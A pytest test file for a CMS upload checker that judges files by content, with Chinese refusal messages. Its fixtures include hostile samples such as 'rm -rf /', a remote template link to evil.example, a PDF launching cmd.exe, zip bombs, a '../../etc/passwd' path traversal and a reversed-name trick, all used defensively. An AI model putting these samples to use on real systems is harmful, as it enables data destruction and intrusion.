"""Uploads are judged by content, not by name (issue 2, sections 2 and 7)."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from wagtail.documents.models import Document
from wagtail.images.models import Image

from cms import containers, uploads
from cms.models import AuditRecord
from tests import factories
from tests.factories import files

DOCX, PDF, PNG = files.docx(), files.pdf(), files.picture()


def judge(content: bytes, name: str) -> uploads.Upload:
    return uploads.judge(io.BytesIO(content), name)


ACCEPTED = {
    "docx": (DOCX, "通知.docx", "document"),
    "docx-capitals": (DOCX, "通知.DOCX", "document"),
    "xlsx": (files.xlsx(), "目录.xlsx", "document"),
    "pptx": (files.archive({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"}), "图解.pptx", "document"),
    "ofd": (files.ofd(), "公文.ofd", "document"),
    "odt": (files.archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}), "a.odt", "document"),
    "doc": (files.ole("WordDocument", "1Table"), "旧文件.doc", "document"),
    "wps": (files.ole("WordDocument"), "旧文件.wps", "document"),
    "xls": (files.ole("Workbook"), "旧表.xls", "document"),
    "et": (files.ole("Workbook"), "旧表.et", "document"),
    "dps": (files.ole("PowerPoint Document"), "旧演示.dps", "document"),
    "pdf": (PDF, "通知.pdf", "document"),
    "rtf": (rb"{\rtf1\ansi text}", "通知.rtf", "document"),
    "text-utf8": ("关于做好工作的通知\n".encode(), "说明.txt", "document"),
    "text-gbk": ("关于做好工作的通知\n".encode("gbk"), "名单.csv", "document"),
    "text-with-sign": ("a < b，c > d".encode(), "说明.txt", "document"),
    "zip": (files.archive({"附件1.pdf": PDF, "附件2.docx": DOCX}), "附件.zip", "archive"),
    "png": (PNG, "图.png", "image"),
    "jpg": (files.picture("JPEG"), "图.jpeg", "image"),
    "gif": (files.picture("GIF"), "图.gif", "image"),
    "webp": (files.picture("WEBP"), "图.webp", "image"),
    "mp4": (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 300, "解读.mp4", "video"),
    "mp3": (b"ID3\x03\x00" + b"\x00" * 300, "录音.mp3", "audio"),
}


@pytest.mark.parametrize(("content", "name", "kind"), ACCEPTED.values(), ids=ACCEPTED)
def test_upload_is_accepted_by_its_content(content, name, kind):
    upload = judge(content, name)
    assert (upload.kind, upload.size, upload.extension) == (kind, len(content), name.rpartition(".")[2].lower())


BOMB = files.archive({"[Content_Types].xml": files.DOCX_TYPES, "word/document.xml": b" " * (30 * 1024 * 1024)}, level=9)
EXTERNAL = (
    '<Relationships><Relationship Id="r1" TargetMode="External" Target="https://evil.example/t.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


def encrypted_zip() -> bytes:
    """A ZIP whose entry says that it is encrypted."""
    content = bytearray(files.archive({"a.txt": "x"}))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


REFUSED = {
    "program-as-docx": (files.PROGRAM, "通知.docx", "不接收这种内容（EXE）。这是可执行程序。"),
    "program": (files.PROGRAM, "setup.exe", "可执行程序"),
    "elf-as-pdf": (b"\x7fELF\x02\x01\x01" + b"\x00" * 300, "通知.pdf", "可执行程序"),
    "docx-as-exe": (DOCX, "通知.exe", "请改名为“通知.docx”"),
    "docx-as-doc": (DOCX, "通知.doc", "内容是 DOCX，与名称不符"),
    "pdf-without-extension": (PDF, "通知", "请改名为“通知.pdf”"),
    "png-as-jpg": (PNG, "图.jpg", "请改名为“图.png”"),
    "empty": (b"", "通知.pdf", "文件是空的"),
    "zip-bomb": (BOMB, "通知.docx", "压缩炸弹"),
    "zip-of-too-many-entries": (files.archive({f"{n}.txt": "" for n in range(5001)}), "a.zip", "超过 5000 个"),
    "zip-in-zip": (files.archive({"内.zip": files.archive({"a.txt": "x"})}), "a.zip", "还有压缩包"),
    "zip-of-program": (files.archive({"run.EXE": files.PROGRAM}), "a.zip", "程序或网页文件"),
    "zip-of-page": (files.archive({"index.html": "<script>"}), "a.zip", "程序或网页文件"),
    "zip-with-password": (encrypted_zip(), "a.zip", "设有密码"),
    "zip-of-strange-path": (files.archive({"../../etc/passwd": "x"}), "a.zip", "不正常的路径"),
    "zip-cut-off": (DOCX[: len(DOCX) // 2], "通知.docx", "已损坏或不完整"),
    "zip-with-tail": (DOCX + b"<script>alert(1)</script>", "通知.docx", "末尾另有内容"),
    "macro-by-content-type": (files.docx(**{"[Content_Types].xml": "macroEnabled"}), "通知.docx", "带有宏"),
    "macro-by-part": (files.docx(**{"word/vbaProject.bin": "x"}), "通知.docm", "带有宏"),
    "template-from-elsewhere": (files.docx(**{"word/_rels/settings.xml.rels": EXTERNAL}), "通知.docx", "外部模板"),
    "program-in-docx": (files.docx(**{"word/embeddings/run.exe": files.PROGRAM}), "通知.docx", "内嵌有程序"),
    "unknown-ooxml": (files.archive({"[Content_Types].xml": "<Types/>"}), "通知.docx", "认不出"),
    "odf-macro": (
        files.archive({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/x.xml": ""}),
        "a.odt",
        "带有宏",
    ),
    "office-with-password": (files.ole("EncryptedPackage", "EncryptionInfo"), "通知.docx", "设有密码"),
    "old-office-macro": (files.ole("WordDocument", "Macros"), "通知.doc", "带有宏"),
    "unknown-ole": (files.ole("!_StringData"), "通知.doc", "认不出"),
    "ole-cut-off": (files.ole("WordDocument")[:600], "通知.doc", "已损坏或不完整"),
    "pdf-with-password": (files.pdf(trailer=b"/Encrypt 5 0 R"), "通知.pdf", "PDF 设有密码"),
    "pdf-with-script": (files.pdf(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"), "通知.pdf", "带有脚本"),
    "pdf-that-launches": (files.pdf(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"), "通知.pdf", "带有脚本"),
    "pdf-cut-off": (PDF[:100], "通知.pdf", "不完整"),
    "page-as-png": (b"<html><script>alert(1)</script></html>", "图.png", "网页、脚本或 SVG"),
    "page-as-txt": (b"\xef\xbb\xbf \n<!DOCTYPE html><p>", "说明.txt", "网页、脚本或 SVG"),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "图.svg", "网页、脚本或 SVG"),
    "svg-as-jpg": (b"<?xml version='1.0'?><svg onload='alert(1)'/>", "图.jpg", "网页、脚本或 SVG"),
    "script": (b"#!/bin/sh\nrm -rf /\n", "说明.txt", "脚本程序"),
    "picture-and-page": (PNG + b"<script>alert(1)</script>", "图.png", "夹带了别的内容"),
    "picture-and-archive": (files.picture("GIF") + files.archive({"a.class": "x"}), "图.gif", "夹带了别的内容"),
    "picture-broken": (PNG[:40] + b"\x00" * 20, "图.png", "图片已损坏"),
    "picture-too-large": (files.picture(size=(9000, 9000)), "图.png", "9000×9000 像素"),
    "rar": (b"Rar!\x1a\x07\x00" + b"\x00" * 300, "附件.rar", "请改用 ZIP"),
    "rtf-object": (rb"{\rtf1{\object\objdata 0105}}", "通知.rtf", "内嵌有对象"),
    "unknown-binary": (b"\x00\x01\x02\x03" * 100, "数据.bin", "认不出"),
    "text-in-no-encoding": (b"abc\xff\xff\xfe", "说明.txt", "编码认不出来"),
    "text-too-big": (b"a" * (20 * 1024 * 1024 + 1), "说明.txt", "超过 20 MB"),
    "picture-too-big": (PNG + b"\x00" * (20 * 1024 * 1024), "图.png", "超过 20 MB"),
    "name-too-long": (PDF, "长" * 300 + ".pdf", "文件名太长"),
    "name-turned-round": (PDF, "通知\u202efdp.exe.pdf", "不正常的字符"),
    "name-with-path": (PDF, "../通知.pdf", "不正常的字符"),
}


@pytest.mark.parametrize(("content", "name", "sentence"), REFUSED.values(), ids=REFUSED)
def test_upload_is_refused_with_a_sentence(content, name, sentence):
    with pytest.raises(uploads.UploadRefused) as refused:
        judge(content, name)
    assert sentence in str(refused.value)


def test_upload_of_overlapping_entries_is_refused():
    """Many entries that share one compressed part: small on disk, endless unpacked."""
    content = files.archive({"a.txt": b"x" * 5000})
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        entry = packed.infolist()[0]
    start, end = content.index(b"PK\x01\x02"), content.index(b"PK\x05\x06")
    directory, count = content[start:end], 200
    tail = b"PK\x05\x06\0\0\0\0" + count.to_bytes(2, "little") * 2
    tail += (len(directory) * count).to_bytes(4, "little") + start.to_bytes(4, "little") + b"\0\0"
    assert entry.compress_size < 100
    with pytest.raises(uploads.UploadRefused, match="条目重叠"):
        judge(content[:start] + directory * count + tail, "a.zip")


def test_upload_leaves_the_file_at_its_beginning():
    file = io.BytesIO(DOCX)
    file.seek(7)
    uploads.judge(file, "通知.docx")
    assert file.tell() == 0


def test_upload_of_another_kind_than_asked_for_is_refused():
    uploads.require(judge(PNG, "图.png"), "image")
    with pytest.raises(uploads.UploadRefused, match="这里只收图片、视频"):
        uploads.require(judge(PDF, "a.pdf"), "image", "video")


def test_container_limits_are_above_what_offices_send():
    assert containers.MOST_UNPACKED >= 100 * uploads.MEGABYTE and containers.HIGHEST_RATIO >= 50


# ---- the staff's forms -------------------------------------------------------------------------------------------------


@pytest.fixture
def staff(client, db):
    factories.home()
    client.force_login(factories.administrator())
    return client


def test_document_form_takes_a_real_docx(staff):
    file = SimpleUploadedFile("通知.docx", DOCX)
    assert staff.post(reverse("wagtaildocs:add"), {"title": "通知", "file": file}).status_code == 302
    assert Document.objects.get().title == "通知"


def test_document_form_refuses_a_renamed_program_and_writes_it_down(staff):
    file = SimpleUploadedFile("通知.docx", files.PROGRAM)
    response = staff.post(reverse("wagtaildocs:add"), {"title": "通知", "file": file})
    assert "这是可执行程序" in response.content.decode()
    assert not Document.objects.exists()
    record = AuditRecord.objects.get()
    assert (record.action, record.details["name"]) == ("upload.refused", "通知.docx")


def test_document_form_for_several_refuses_too(staff):
    response = staff.post(reverse("wagtaildocs:add_multiple"), {"title": "通知", "files[]": SimpleUploadedFile("通知.docx", files.PROGRAM)})
    assert response.json()["success"] is False and "可执行程序" in response.json()["error_message"]
    assert not Document.objects.exists()


def test_image_forms_refuse_a_page_that_poses_as_a_picture(staff):
    page = b"<html><script>alert(1)</script></html>"
    staff.post(reverse("wagtailimages:add"), {"title": "图", "file": SimpleUploadedFile("图.png", page)})
    response = staff.post(reverse("wagtailimages:add_multiple"), {"title": "图", "files[]": SimpleUploadedFile("图.png", page)})
    assert response.json()["success"] is False
    assert not Image.objects.exists()


def test_image_form_takes_a_picture_and_refuses_one_with_a_page_inside(staff):
    staff.post(reverse("wagtailimages:add"), {"title": "图", "file": SimpleUploadedFile("图.png", PNG)})
    staff.post(reverse("wagtailimages:add"), {"title": "图", "file": SimpleUploadedFile("图二.png", PNG + b"<script>x</script>")})
    assert Image.objects.count() == 1
